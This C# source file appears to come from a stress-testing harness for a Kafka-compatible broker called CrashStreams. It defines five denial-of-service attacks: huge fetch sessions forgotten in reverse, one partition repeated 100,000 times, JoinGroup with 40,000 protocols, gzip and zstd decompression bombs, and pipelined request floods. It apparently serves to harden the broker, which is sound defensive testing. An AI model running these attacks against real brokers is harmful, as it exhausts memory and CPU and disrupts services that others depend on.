using System.Collections.Concurrent;
using CrashStreams.Broker.Attacks.Wire;
using CrashStreams.Protocol.Messages;
using CrashStreams.Protocol.Records;
using CrashStreams.Protocol.Wire;

namespace CrashStreams.Broker.Attacks.Attacks;

/// <summary>A fetch session with as many partitions as a request may name, which are then forgotten from the last to the first.</summary>
internal sealed class ForgottenInReverse(int partitions = 20_000)
    : Attack("session", $"a fetch session of {partitions} partitions, forgotten in reverse")
{
    protected override async Task RoundAsync(AttackClient client, Target target, CancellationToken stop)
    {
        var indexes = Enumerable.Range(0, partitions).ToList();
        var opened = await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            SessionEpoch = 0,
            Topics = [new() { Topic = Target.Narrow, Partitions = indexes.ConvertAll(index => new FetchRequest.FetchPartition { Partition = index }) }],
        }, version: 11, stop);
        indexes.Reverse();
        await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            SessionId = opened.SessionId,
            SessionEpoch = opened.SessionId == 0 ? -1 : 1,
            ForgottenTopicsData = [new() { Topic = Target.Narrow, Partitions = indexes }],
        }, version: 11, stop);
    }
}

/// <summary>One partition, named as often as a request can.</summary>
internal sealed class RepeatedPartition(int times = 100_000)
    : Attack("repeated", $"one partition named {times} times: ListOffsets by time, Fetch, DeleteRecords")
{
    protected override async Task RoundAsync(AttackClient client, Target target, CancellationToken stop)
    {
        await client.AskAsync<ListOffsetsRequest, ListOffsetsResponse>(new()
        {
            Topics = [new() { Name = Target.Narrow, Partitions = Repeat(() => new ListOffsetsRequest.ListOffsetsPartition { Timestamp = 1 }) }],
        }, stop: stop);
        await client.AskAsync<FetchRequest, FetchResponse>(new()
        {
            MaxWaitMs = 1,
            Topics = [new() { Topic = Target.Narrow, Partitions = Repeat(() => new FetchRequest.FetchPartition { PartitionMaxBytes = 1 }) }],
        }, version: 11, stop);
        await client.AskAsync<DeleteRecordsRequest, DeleteRecordsResponse>(new()
        {
            Topics = [new() { Name = Target.Narrow, Partitions = Repeat(() => new DeleteRecordsRequest.DeleteRecordsPartition()) }],
        }, stop: stop);
    }

    private List<T> Repeat<T>(Func<T> create) => [.. Enumerable.Range(0, times).Select(_ => create())];
}

/// <summary>A member that offers tens of thousands of protocols.</summary>
internal sealed class ManyProtocols(int protocols = 40_000)
    : Attack("protocols", $"JoinGroup with {protocols} protocols")
{
    protected override async Task RoundAsync(AttackClient client, Target target, CancellationToken stop)
    {
        await client.AskAsync<JoinGroupRequest, JoinGroupResponse>(Request($"g{Random.Shared.Next(100)}"), version: 3, stop);
    }

    public JoinGroupRequest Request(string group) => GroupRequests.Join(group, [.. Enumerable.Range(0, protocols).Select(i => new JoinGroupRequest.JoinGroupRequestProtocol { Name = $"p{i}" })]);
}

/// <summary>Batches of a few kilobytes that become as much as a topic takes, hundreds in a request.</summary>
internal sealed class Bombs(int batches = 200)
    : Attack("bombs", $"Produce with {batches} gzip batches of {RecordBytes / 1_000_000} MB each when decompressed, over the widest topic; zstd is tried with 250 MB")
{
    private const int RecordBytes = 15_000_000; // 16 MiB is what a topic takes

    protected override async Task RoundAsync(AttackClient client, Target target, CancellationToken stop)
    {
        foreach (var (codec, bytes) in new[] { (CompressionCodec.Gzip, RecordBytes), (CompressionCodec.Zstd, 250_000_000) })
            await client.AskAsync<ProduceRequest, ProduceResponse>(Request(Batches.Of(codec, bytes), target.WidePartitions), version: 9, stop);
    }

    public ProduceRequest Request(byte[] batch, int partitions) => new()
    {
        Acks = -1,
        TimeoutMs = 10_000,
        TopicData = [new() { Name = Target.Wide, PartitionData = [.. Enumerable.Range(0, batches).Select(i => new ProduceRequest.PartitionProduceData { Index = i % partitions, Records = new RecordsField(batch) })] }],
    };

    /// <summary>Made once: that takes longer than to send them.</summary>
    private static class Batches
    {
        private static readonly ConcurrentDictionary<(CompressionCodec, int), Lazy<byte[]>> s_made = new();

        public static byte[] Of(CompressionCodec codec, int bytes) => s_made.GetOrAdd((codec, bytes), of => new Lazy<byte[]>(() =>
        {
            using var builder = new RecordBatchBuilder(new RecordBatchHeader { Codec = of.Item1 });
            builder.Append(TimeProvider.System.GetUtcNow().ToUnixTimeMilliseconds(), "k"u8.ToArray(), new byte[of.Item2]);
            return builder.Build().ToArray();
        })).Value;
    }
}

/// <summary>Small requests, as many as the connections carry; all answers are read.</summary>
internal sealed class Flood(int inARow = 5000)
    : Attack("flood", $"{inARow} small requests in a row on each of 20 connections, all answers read, again and again", clients: 20)
{
    protected override async Task RoundAsync(AttackClient client, Target target, CancellationToken stop)
    {
        var frames = new byte[][]
        {
            client.Frame(new ListOffsetsRequest { Topics = [new() { Name = Target.Narrow, Partitions = [new() { Timestamp = -1 }] }] }),
            client.Frame(new FindCoordinatorRequest { CoordinatorKeys = ["g"] }),
            client.Frame(new ApiVersionsRequest { ClientSoftwareName = "flood", ClientSoftwareVersion = "1" }),
        };
        byte[] row = [.. Enumerable.Range(0, inARow).SelectMany(i => frames[i % frames.Length])];
        var reading = ReadAsync();
        while (!reading.IsCompleted)
            await client.SendBytesAsync(row, stop);
        await reading;

        async Task ReadAsync()
        {
            while (true)
                await client.ReadFrameAsync(stop);
        }
    }
}
